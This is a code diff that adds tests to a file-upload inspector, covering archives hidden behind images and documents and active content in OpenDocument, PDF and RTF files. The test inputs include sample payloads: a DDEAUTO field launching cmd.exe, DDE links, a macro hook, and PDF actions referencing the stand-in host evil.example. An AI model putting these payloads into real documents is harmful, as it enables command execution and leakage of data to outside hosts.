@@ -413,6 +413,97 @@ const withEndRecord = (content: Buffer, change: (endRecord: Buffer) => void): Bu
   return copy
 }
 
+const rar = Buffer.concat([Buffer.from('Rar!\u001a\u0007\u0001\0'), Buffer.alloc(200)])
+const sevenZip = Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(200)])
+
+describe('archive of another format', () => {
+  test.each<[string, FileKind, Buffer]>([
+    ['RAR behind a JPEG', 'jpg', Buffer.concat([aJpg(), rar])],
+    ['7z behind a PNG', 'png', Buffer.concat([aPng(), sevenZip])],
+    ['7z behind a HEIC', 'heic', Buffer.concat([aHeic(), sevenZip])],
+    ['RAR behind a PDF', 'pdf', Buffer.concat([aPdf(), rar])],
+    ['RAR behind a Word document', 'docx', Buffer.concat([aDocx(), rar])],
+    ['RAR behind a Word 97 document', 'doc', Buffer.concat([aDoc(), rar])],
+    ['7z behind rich text', 'rtf', Buffer.concat([anRtf(), sevenZip])],
+  ])('is refused: %s', async (_what, kind, content) => {
+    expect(await inspect(content, kind)).toEqual(refused('mismatch'))
+  })
+})
+
+/** An OpenDocument text with these tags in one part. */
+const anOdtWith = (content: string, name = 'styles.xml'): Buffer => {
+  const type = 'application/vnd.oasis.opendocument.text'
+  return zipFile([
+    { name: 'mimetype', content: type },
+    { name, content },
+  ])
+}
+
+describe('active content of an OpenDocument text', () => {
+  test.each<[string, string, string]>([
+    [
+      'a macro of the reader',
+      '<script:event-listener xlink:href="vnd.sun.star.script:Tools.Debug.Main"/>',
+      'macros',
+    ],
+    ['an embedded object', '<draw:object-ole xlink:href="./Object 1"/>', 'embedded'],
+    ['a link to a program', '<text:dde-connection-decl office:dde-topic="/c calc"/>', 'script'],
+    ['a section of a program', '<office:dde-source office:dde-topic="/c calc"/>', 'script'],
+  ])('is flagged: %s', async (_what, tag, warning) => {
+    expect(await inspect(anOdtWith(tag), 'odt')).toEqual(accepted(warning))
+  })
+
+  test('is flagged in an embedded object', async () => {
+    const picture = '<draw:image xlink:href="https://evil.example/a.png"/>'
+    const content = anOdtWith(picture, 'Object 1/content.xml')
+    expect(await inspect(content, 'odt')).toEqual(accepted('remote'))
+  })
+})
+
+describe('file reference of a PDF', () => {
+  test.each([
+    ['/S /GoToR /F (\\\\\\\\evil.example\\\\a)'],
+    ['/S /GoToE /F (\\134\\134evil.example\\134a.pdf)'],
+    ['/S /GoToR /F <5c5c6576696c2e6578616d706c655c61>'],
+    ['/S /GoToR /F 4 0 R /UF (\u00fe\u00ff\0/\0/\0e\0v\0i\0l\0/\0a)'],
+    ['/S /SubmitForm /F << /FS /URL /F (https://evil.example/a) >>'],
+    ['/S /ImportData /F(//evil.example/a.fdf)'],
+    ['/Length 0 /F (//evil.example/a)'],
+  ])('is flagged when it is on another computer: %s', async (action) => {
+    const content = Buffer.from(aPdf().toString('latin1').replace('<<', `<< ${action}`), 'latin1')
+    expect(await inspect(content, 'pdf')).toEqual(accepted('remote'))
+  })
+
+  test.each([
+    ['/S /GoToR /F (annexe.pdf) /D [0 /Fit]'],
+    ['/S /GoToR /F (/C/Users/Ana/annexe.pdf)'],
+    ['/S /URI /URI (https://ana.example/)'],
+    ['/Subtype /Link /F 4 /Contents (https://ana.example/)'],
+  ])('is accepted when it is not: %s', async (action) => {
+    expect(await inspect(aPdf(`<< ${action} >>`), 'pdf')).toEqual(accepted())
+  })
+
+  test('is flagged when it embeds a file without a type', async () => {
+    const content = aPdf('<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>')
+    expect(await inspect(content, 'pdf')).toEqual(accepted('embedded'))
+  })
+})
+
+describe('rich text', () => {
+  test('is flagged for a link to a program', async () => {
+    const content = anRtf('{\\field{\\*\\fldinst {DDEAUTO c:\\\\cmd.exe "/k calc"}}}')
+    expect(await inspect(content, 'rtf')).toEqual(accepted('script'))
+  })
+
+  test.each([
+    ['C:\\\\objdata et C:\\\\objects'],
+    ['C:\\\\template http://ana.example/'],
+    ['DDE 2019'],
+  ])('is accepted with the text %s', async (text) => {
+    expect(await inspect(anRtf(text), 'rtf')).toEqual(accepted())
+  })
+})
+
 describe('archive with a false directory', () => {
   test.each<[string, Buffer]>([
     ['counts fewer entries', withEndRecord(aDocxWithMacros(), (end) => end.writeUInt16LE(1, 10))],
@@ -517,6 +608,22 @@ describe('packed stream of a PDF', () => {
       'flags encrypted objects',
       aPdf('/Encrypt 5 0 R\n<< /Type /ObjStm /Filter /FlateDecode >> stream\nxyz'),
       ['password', 'notFullyChecked'],
+    ],
+    [
+      'flags a stream that is packed twice',
+      aPackedPdf(
+        deflateSync(aScript).toString('latin1'),
+        '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]',
+      ),
+      ['notFullyChecked'],
+    ],
+    [
+      'flags a stream that is packed and in hexadecimal',
+      aPackedPdf(
+        Buffer.from(aScript).toString('hex'),
+        '/Type /ObjStm /Filter [/FlateDecode /ASCIIHexDecode]',
+      ),
+      ['notFullyChecked'],
     ],
     ['flags what exceeds the budget', aPackedPdf(' '.repeat(20_000_000)), ['notFullyChecked']],
     [
